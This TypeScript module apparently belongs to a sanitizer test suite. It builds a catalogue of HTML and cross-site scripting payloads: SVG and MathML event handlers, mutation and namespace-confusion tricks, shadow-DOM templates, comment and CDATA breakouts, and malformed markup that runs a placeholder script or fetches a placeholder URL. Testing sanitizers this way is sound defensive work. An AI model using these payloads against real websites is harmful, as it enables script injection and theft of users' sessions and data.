/** Threat class 2: drawings, formulas, markup that is read differently a second time, templates, broken markup. */
import { alone, cross, kind, live, liveAlone, type Mark, type Recipe } from './recipe.ts';
import { byName } from './scripts.ts';

const bomb = ({ run }: Mark) => `<img src=x: onerror="${run}">`;

/** Elements whose content is text in HTML, and markup in a drawing or a formula. */
const rawText = ['style', 'xmp', 'noembed', 'noframes', 'textarea', 'title', 'noscript', 'iframe'];
const foreign: readonly (readonly [open: string, close: string])[] = [
  ['', ''],
  ['<svg>', '</svg>'],
  ['<math>', '</math>'],
  ['<math><mtext><table><mglyph>', '</table></math>'],
  ['<svg><desc>', '</desc></svg>'],
];

/** An attribute that ends the element it stands in, as soon as that is read as text. */
const turning = (tag: string, [open, close]: readonly [string, string], { run }: Mark): string =>
  `${open}<${tag}><a id="</${tag}><img src=x: onerror='${run.replaceAll("'", '`')}'>"></a></${tag}>${close}`;

export const foreignRecipes: readonly Recipe[] = [
  ...kind('svg', live, [
    ({ run }) => `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></svg>`,
    ({ run }) => `<svg><set onbegin="${run}" attributeName="x" to="1"></svg>`,
    ({ run }) => `<svg><image href="x:" onerror="${run}"/></svg>`,
    ({ ask }) => `<svg><image href="${ask}" width="9" height="9"/></svg>`,
    ({ ask }) => `<svg><image xlink:href="${ask}" width="9" height="9"/></svg>`,
    ({ ask }) =>
      `<svg><filter id="f"><feImage href="${ask}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    (mark) => `<svg><foreignObject>${bomb(mark)}</foreignObject></svg>`,
    ({ ask }) => `<svg><foreignObject><iframe src="${ask}"></iframe></foreignObject></svg>`,
    ({ ask }) => `<svg><style>@import url(${ask});</style></svg>`,
    (mark) => `<svg><title>${bomb(mark)}</title></svg>`,
    (mark) => `<svg><desc><p>${bomb(mark)}</p></desc></svg>`,
    (mark) => `<p>The quay <svg><g>${bomb(mark)}</g></svg> is open.</p>`,
  ]),
  ...kind('svg', {}, [
    ({ ask }) => `<svg><use href="${ask}#x"/></svg>`,
    ({ run }) =>
      `<svg><a id="k"><set attributeName="href" to="javascript:${run}"/><text y="9">Ferry</text></a></svg>`,
    ({ run }) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run.replaceAll("'", '`')}'/>#x"/></svg>`,
    ({ ask }) => `<svg><rect fill="url(${ask}#p)" width="9" height="9"/></svg>`,
    ({ ask }) => `<svg><rect style="mask:url(${ask}#m)" width="9" height="9"/></svg>`,
  ]),
  ...kind('svg', alone, [(mark) => `<svg><p>The quay is open. ${mark.run}</p><desc><style>`]),
  ...kind('math', {}, [
    ({ run }) => `<math href="javascript:${run}"><mi>x</mi></math>`,
    ({ run }) =>
      `<math><maction actiontype="statusline" xlink:href="javascript:${run}"><mi>x</mi></maction></math>`,
    ({ ask }) => `<math><mglyph src="${ask}"/></math>`,
    ({ ask }) => `<math><mi style="background:url(${ask})">x</mi></math>`,
  ]),
  ...kind('math', live, [
    (mark) => `<math><mtext>${bomb(mark)}</mtext></math>`,
    (mark) => `<math><annotation-xml encoding="text/html">${bomb(mark)}</annotation-xml></math>`,
    (mark) => `<math><semantics><mi>x</mi><annotation>${bomb(mark)}</annotation></semantics></math>`,
    ({ run }) => `<math><mtext><script>${run}</script></mtext></math>`,
  ]),
  ...cross(rawText, foreign, (tag, round) =>
    kind('turning', round === foreign[0] ? live : {}, [(mark) => turning(tag, round, mark)]),
  ).flat(),
  ...kind('turning', {}, [
    (mark) => `<listing>${byName(bomb(mark))}</listing>`,
    (mark) => `<form><math><mtext></form><form><mglyph><style></math>${byName(bomb(mark))}</style></form>`,
    (mark) => `<svg><![CDATA[><p title="]]&gt;${byName(bomb(mark))}">]]></svg>`,
    ({ run }) => `<p><img alt="\`\`onerror=${run}"></p>`,
    (mark) => `<select><option><style></select>${byName(bomb(mark))}</style></option></select>`,
  ]),
  ...kind('turning', alone, [
    (mark) => `<plaintext>${bomb(mark)}`,
    (mark) => `<svg><style><!--${bomb(mark)}`,
  ]),
  ...kind('template', live, [
    (mark) => `<div><template shadowrootmode="open">${bomb(mark)}</template></div>`,
    ({ run }) => `<div><template shadowrootmode="closed"><script>${run}</script></template></div>`,
    ({ ask }) =>
      `<div><template shadowrootmode="open"><style>:host{background:url(${ask})}</style></template>Quay</div>`,
    (mark) => `<x-ferry>${bomb(mark)}</x-ferry>`,
    (mark) => `<p is="x-ferry"><slot name="s">${bomb(mark)}</slot></p>`,
  ]),
  ...kind('template', {}, [
    (mark) => `<template>${bomb(mark)}</template>`,
    ({ run }) => `<template><template><script>${run}</script></template></template>`,
    (mark) => `<table><template><tr><td>${bomb(mark)}</td></tr></template></table>`,
    ({ run }) => `<div is="script">${run}</div>`,
  ]),
  ...kind('comment', live, [
    (mark) => `<!-->${bomb(mark)}-->`,
    (mark) => `<!-- --!>${bomb(mark)}<!-- -->`,
    (mark) => `<![CDATA[>${bomb(mark)}]]>`,
    (mark) => `<?php >${bomb(mark)}?>`,
    (mark) => `<!DOCTYPE x [<!ENTITY y ">${bomb(mark)}">]>`,
    (mark) => `</ x>${bomb(mark)}`,
  ]),
  ...kind('comment', {}, [
    (mark) => `<!--[if gte IE 4]>${bomb(mark)}<![endif]-->`,
    ({ ask }) => `<?xml-stylesheet href="${ask}"?>`,
    ({ ask }) => `<!DOCTYPE x SYSTEM "${ask}"><p>&x;</p>`,
    (mark) => `<%= ${mark.run} %>`,
  ]),
  ...kind('comment', alone, [(mark) => `<!-- ${bomb(mark)}`, (mark) => `<![CDATA[ ${mark.run}`]),
  ...kind('broken', live, [
    ({ run }) => `<img """><script>${run}</script>">`,
    ({ run }) => `<img src="x:"onerror="${run}"alt="quay">`,
    ({ run }) => `<p title=x"onmouseover=1><img src=x: onerror='${run.replaceAll("'", '`')}'>`,
    ({ run }) => `<img src=x: onerror="${run}" onerror="0" alt="">`,
    (mark) => `<b><p><i></b>${bomb(mark)}</i></p>`,
    (mark) => `<table>${bomb(mark)}<tr><td>1</td></tr></table>`,
    (mark) => `${'<b>'.repeat(70)}${bomb(mark)}${'</b>'.repeat(70)}`,
    (mark) => `${'<div>'.repeat(70)}${bomb(mark)}${'</div>'.repeat(70)}`,
    (mark) => `<ruby>quay<rp>(<rt>${bomb(mark)}</rt></ruby>`,
    ({ run }) =>
      `<img ${Array.from({ length: 300 }, (_, i) => `a${i}=1`).join(' ')} src=x: onerror="${run}">`,
  ]),
  ...kind('broken', {}, [
    ({ run }) => `<im\u0000g src=x: onerror="${run}">`,
    ({ run }) => `< img src=x: onerror="${run}">`,
    ({ run }) => `<a href="https://news.example/"onclick="${run}"style=x>Ferry</a>`,
  ]),
  ...kind('broken', liveAlone, [
    ({ run }) => `</article></body></html><script>${run}</script>`,
    ({ run }) => `</p></div></article></main><body onload="${run}"><article>`,
  ]),
  ...kind('broken', alone, [({ run }) => `<p title="${run}`, ({ run }) => `<img src=x: onerror='${run}`]),
];
